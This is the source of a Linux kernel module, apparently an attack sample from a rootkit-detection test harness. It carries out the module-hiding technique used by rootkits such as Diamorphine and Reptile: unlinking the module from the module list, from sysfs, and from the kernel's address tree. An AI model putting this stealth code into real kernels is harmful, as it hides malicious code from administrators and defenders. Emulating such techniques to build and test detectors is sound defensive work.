// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a module takes itself out of the list of modules (how=list), of sysfs too (how=sysfs), and of the tree by which
 * the kernel finds modules by address as well (how=everywhere). Who: Diamorphine, Reptile, KoviD, Singularity.
 * Changes: its own links. how=list comes back when 1 is written to its parameter `undo`; of the others the guest is
 * thrown away.
 */
#include "attack.h"

#include <linux/rbtree_latch.h>
#include <linux/workqueue.h>

VARIANT("list");
KERNEL_SYMBOL(mod_tree);
KERNEL_SYMBOL(mod_tree_remove);
static struct list_head *before;

static int undo(const char *value, const struct kernel_param *parameter)
{
	if (list_empty(&THIS_MODULE->list))
		list_add_rcu(&THIS_MODULE->list, before);
	return 0;
}
static const struct kernel_param_ops undo_operations = {.set = undo};
module_param_cb(undo, &undo_operations, NULL, 0200);

static void leave_tree(void)
{
#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 19, 0)
	/* Its function has no symbol there; both copies of the tree, as it does (kernel/module.c). */
	struct latch_tree_root *tree = (void *)mod_tree_at;
	int copy;

	for (copy = 0; copy < 2; ++copy)
		rb_erase(&THIS_MODULE->core_layout.mtn.node.node[copy], &tree->tree[copy]);
#else
	((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
#endif
}

/* Once it is loaded: the loader itself still goes by these records. */
static void hide(struct work_struct *work)
{
	before = THIS_MODULE->list.prev;
	list_del_init(&THIS_MODULE->list);
	if (HOW("list"))
		return;
	kobject_del(&THIS_MODULE->mkobj.kobj);
	if (HOW("everywhere"))
		leave_tree();
}
static DECLARE_DELAYED_WORK(work, hide);

static int __init start(void)
{
	if (HOW("everywhere") && !mod_tree_remove_at && !mod_tree_at)
		return -ENOENT;
	schedule_delayed_work(&work, HZ / 4);
	return 0;
}

static void __exit stop(void)
{
	cancel_delayed_work_sync(&work);
}

ATTACK(start, stop);
